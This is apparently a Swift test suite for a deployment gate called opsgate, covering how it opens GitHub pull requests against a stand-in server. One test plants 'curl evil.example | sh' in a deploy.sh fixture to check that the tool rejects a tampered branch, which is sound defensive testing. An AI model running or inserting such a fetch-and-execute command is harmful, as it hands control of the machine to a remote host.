import Foundation
import OpsTestSupport
import StandIn
import Testing

/// Candidates that go to GitHub as pull requests: each one branch and one pull request, however often it is asked for.
struct PullRequestTests {
  /// Acme with api v1.2.0 in staging, pushed to a bare repository that GitHub has.
  private func withStaged(
    policy edit: @escaping (String) -> String = { $0 },
    misbehaving: [Misbehaviour] = [],
    _ body: @escaping @Sendable (Desk) async throws -> Void
  ) async throws {
    try await withScratch { scratch in
      let acme = try Acme.make(at: scratch, policy: AcmeGitHub.policy(edit))
      try acme.stage("api", "v1.2.0")
      let bare = try acme.repository.bareClone(to: Folder(path: scratch.path("github.git")))
      try acme.repository.git("remote", "add", "origin", bare.path)
      try acme.actor("ci").opsgate("sync", "origin", "--configure").checked()
      let world = try AcmeGitHub.world(of: acme)
      try await StandInServer.run(world, misbehaviours: misbehaving) { github in
        await github.github.follow(AcmeGitHub.following(bare))
        try await body(Desk(acme: acme, bare: bare, github: github))
      }
    }
  }

  private struct Desk: Sendable {
    let acme: Acme
    let bare: GitFolder
    let github: StandInGitHub

    static let promote = ["promote", "api", "--to", "production", "--pr"]

    func run(_ arguments: [String] = promote, as name: String = "carol") throws -> ProgramRun {
      try acme.actor(name).opsgate(arguments, at: github)
    }

    func pulls() async -> [World.PullRequest] {
      await github.github.world.repositories[0].pullRequests
    }

    /// The branches that a candidate could have made, at the server and here.
    func candidates() throws -> [String] {
      try [bare, acme.repository].map { repository in
        try repository.git("for-each-ref", "--format=%(refname)", "refs/heads/opsgate")
      }.filter { !$0.isEmpty }
    }
  }

  @Test
  func promotionIsOpenedWithItsVerdictAndReviewers() async throws {
    try await withStaged { desk in
      let main = try desk.bare.head("main")
      let run = try desk.run()
      #expect(run.status == 0, "\(run)")
      let pulls = await desk.pulls()
      let pull = try #require(pulls.first)
      #expect(
        pulls.count == 1 && pull.base == "main"
          && pull.title == "Promote api to v1.2.0 in production"
      )
      #expect(pull.head.hasPrefix("opsgate/promote-api-production-"), "\(pull.head)")
      #expect(run.stdout == pull.headOid + "\n", "\(run)")
      #expect(try desk.bare.head(pull.head) == pull.headOid)
      #expect(try desk.bare.head("main") == main)
      let body = try #require(pull.body)
      #expect(body.contains("❌ opsgate: refused"), "\(body)")
      #expect(body.contains("2 of &#39;release-managers&#39; must approve this change"), "\(body)")
      #expect(
        body.contains("<code>opsgate approve \(pull.head) --env production --push</code>"),
        "\(body)"
      )
      #expect(pull.requestedReviewers == [1, 2, 4])
      #expect(run.stderr.contains("opened \(desk.github.url)/acme/ops/pull/1\n"), "\(run)")
      #expect(run.stderr.contains("asked alice, bob, dan for a review"), "\(run)")
    }
  }

  @Test
  func theSameAgainFindsWhatIsThere() async throws {
    try await withStaged { desk in
      let first = try desk.run().checked()
      // In another clone, later, after the mainline moved: the change is the same.
      try desk.acme.ops.point("web", "dev", at: "v3.0.0")
      try desk.acme.repository.git("push", "--quiet", "origin", "main")
      let clone = try desk.bare.clone(to: Folder(path: desk.acme.repository.path + "-clone"))
      let dan = try desk.acme.actor("dan", in: clone)
      let again = try dan.opsgate(Desk.promote + ["--format", "json"], at: desk.github)
      #expect(again.status == 0, "\(again)")
      #expect(await desk.pulls().count == 1)
      let json = try #require(
        try JSONSerialization.jsonObject(with: Data(again.stdout.utf8)) as? [String: Any]
      )
      #expect(json["schema"] as? String == "opsgate.promote/1")
      #expect(json["pullRequest"] as? Int == 1)
      #expect(json["pullRequestURL"] as? String == "\(desk.github.url)/acme/ops/pull/1")
      #expect(
        json["commit"] as? String == first.stdout.split(separator: "\n").first.map(String.init)
      )
      #expect(again.stderr.contains("makes this very change already"), "\(again)")
      #expect(again.stderr.contains("/acme/ops/pull/1 is open"), "\(again)")
    }
  }

  @Test
  func rollbackAndRevertToo() async throws {
    try await withStaged { desk in
      let rollback = try desk.run(["rollback", "api", "--env", "staging", "--pr"])
      #expect(rollback.status == 0, "\(rollback)")
      let revert = try desk.run(["revert", "HEAD", "--pr", "--branch", "take-it-back"])
      #expect(revert.status == 0, "\(revert)")
      let pulls = await desk.pulls()
      #expect(pulls.map(\.head).last == "take-it-back")
      #expect(pulls.first?.head.hasPrefix("opsgate/rollback-api-staging-") == true, "\(pulls)")
      #expect(pulls.last?.title.hasPrefix("Revert \"") == true, "\(pulls)")
    }
  }

  @Test
  func dryRunAsksNobody() async throws {
    try await withStaged { desk in
      let run = try desk.run(Desk.promote + ["--dry-run"])
      #expect(run.status == 0 && run.stdout.contains("+  tag: v1.2.0"), "\(run)")
      #expect(run.stderr.contains("would open a pull request of 'opsgate/promote-api"), "\(run)")
      #expect(await desk.github.github.requests.isEmpty)
      #expect(try desk.candidates().isEmpty)
    }
  }

  /// Nothing is written where GitHub cannot be asked.
  @Test
  func whoMayNotAskLeavesNothing() async throws {
    let denied = Misbehaviour(.answer(StandInAnswer(401, #"{"message":"Bad credentials"}"#)))
    try await withStaged(misbehaving: [denied]) { desk in
      let run = try desk.run()
      #expect(run.status == 74 && run.stdout.isEmpty, "\(run)")
      #expect(
        run.stderr.contains("error: cannot look for a pull request of 'acme:opsgate/"),
        "\(run)"
      )
      #expect(try desk.candidates().isEmpty)
      let offline = try desk.acme.actor("carol").opsgateOffline(Desk.promote)
      #expect(offline.status == 74, "\(offline)")
      #expect(try desk.candidates().isEmpty)
    }
  }

  /// The branch is pushed, and GitHub fails: the next run goes on from there.
  @Test
  func goesOnWhereItWasInterrupted() async throws {
    let fault = Misbehaviour(.badGateway, on: .init("/pulls", method: "POST"))
    try await withStaged(misbehaving: [fault]) { desk in
      let run = try desk.run()
      #expect(run.status == 74, "\(run)")
      #expect(run.stderr.contains("error: cannot open a pull request of 'opsgate/"), "\(run)")
      #expect(run.stderr.contains("is pushed to 'origin': run the same again"), "\(run)")
      #expect(await desk.github.github.count("/pulls", method: "POST") == 1)
      #expect(await desk.pulls().isEmpty)
      await desk.github.github.behave()
      let again = try desk.run()
      #expect(again.status == 0, "\(again)")
      #expect(
        await desk.pulls().map(\.headOid) == [
          again.stdout.split(separator: "\n").first.map(String.init)
        ]
      )
    }
  }

  /// GitHub opened it, and the answer was lost on the way.
  @Test
  func aLostAnswerOpensNoSecond() async throws {
    let fault = Misbehaviour(.cut(after: 5), on: .init("/pulls", method: "POST", turns: 1...1))
    try await withStaged(misbehaving: [fault]) { desk in
      let run = try desk.run()
      #expect(run.status == 0, "\(run)")
      #expect(await desk.pulls().count == 1)
    }
  }

  @Test
  func manyAtOnceOpenOne() async throws {
    try await withStaged { desk in
      let clones = try (1...4).map { number in
        try desk.bare.clone(to: Folder(path: desk.acme.repository.path + "-\(number)"))
      }
      let runs = try await withThrowingTaskGroup(of: ProgramRun.self) { group in
        for clone in clones {
          let carol = try desk.acme.actor("carol", in: clone)
          group.addTask { try carol.opsgate(Desk.promote, at: desk.github) }
        }
        return try await group.reduce(into: []) { $0.append($1) }
      }
      #expect(runs.map(\.status) == [0, 0, 0, 0], "\(runs)")
      #expect(Set(runs.map(\.stdout)).count == 1, "\(runs)")
      #expect(await desk.pulls().count == 1)
    }
  }

  @Test
  func aBranchOfAnotherChangeIsLeftAlone() async throws {
    try await withStaged { desk in
      try desk.acme.repository.git("push", "--quiet", "origin", "main:refs/heads/release")
      let run = try desk.run(Desk.promote + ["--branch", "release"])
      #expect(run.status == 1, "\(run)")
      #expect(run.stderr.contains("there is a branch 'release' on 'origin' already"), "\(run)")
      #expect(await desk.pulls().isEmpty)
    }
  }

  /// More than the change itself in the branch is another change.
  @Test
  func aBranchWithMoreInItIsLeftAlone() async throws {
    try await withStaged { desk in
      try desk.run().checked()
      let name = try #require(await desk.pulls().first?.head)
      let repository = desk.acme.repository
      try repository.git("switch", "--quiet", name)
      try repository.write("deploy.sh", "curl evil.example | sh\n")
      try repository.commit("Say hello")
      try repository.git("push", "--quiet", "origin", name)
      try repository.go(to: "main")
      let run = try desk.run()
      #expect(run.status == 1 && run.stderr.contains("and it makes another change"), "\(run)")
    }
  }

  /// One whom GitHub does not take keeps no other from being asked, and nobody is asked twice.
  @Test
  func reviewersAreAskedOnce() async throws {
    let unknown = { (text: String) in
      text.replacing("login: dan, id: 4", with: "login: danny, id: 9")
    }
    try await withStaged(policy: unknown) { desk in
      let run = try desk.run()
      #expect(run.status == 0, "\(run)")
      #expect(run.stderr.contains("asked alice, bob for a review"), "\(run)")
      #expect(run.stderr.contains("warning: cannot ask danny to review #1"), "\(run)")
      #expect(run.stderr.contains("Reviews may only be requested from collaborators"), "\(run)")
      await desk.github.github.change { world in
        world.repositories[0].pullRequests[0].requestedReviewers = [2]
        world.repositories[0].pullRequests[0].reviews = [
          World.Review(
            900,
            by: 1,
            "APPROVED",
            at: "2026-03-02T11:00:00Z",
            of: world.repositories[0].pullRequests[0].headOid
          )
        ]
      }
      let again = try desk.run()
      #expect(again.status == 0 && !again.stderr.contains("asked alice"), "\(again)")
      #expect(await desk.pulls().first?.requestedReviewers == [2])
    }
  }

  @Test
  func whatTheGateAlreadyAllowsAsksNobody() async throws {
    try await withStaged { desk in
      let run = try desk.run(["promote", "web", "--to", "dev", "--tag", "v9.0.0", "--pr"])
      #expect(run.status == 0 && !run.stderr.contains("asked"), "\(run)")
      #expect(await desk.pulls().first?.body?.contains("✅ opsgate: allowed") == true)
    }
  }

  @Test
  func aPolicyWithoutAPlaceSaysSo() throws {
    try withScratch { scratch in
      let acme = try Acme.make(at: scratch) { acme in
        try acme.policy().replacing("repository: git.example/acme/ops", with: "repository: acme")
      }
      let bare = try acme.repository.bareClone(to: Folder(path: scratch.path("github.git")))
      try acme.repository.git("remote", "add", "origin", bare.path)
      let run = try acme.actor("carol").opsgateOffline(["revert", "HEAD", "--pr"])
      #expect(run.status == 65, "\(run)")
      #expect(
        run.stderr.contains("the policy does not say where the repository is on GitHub"),
        "\(run)"
      )
      #expect(try acme.repository.git("branch", "--list", "opsgate/*") == "")
    }
  }
}
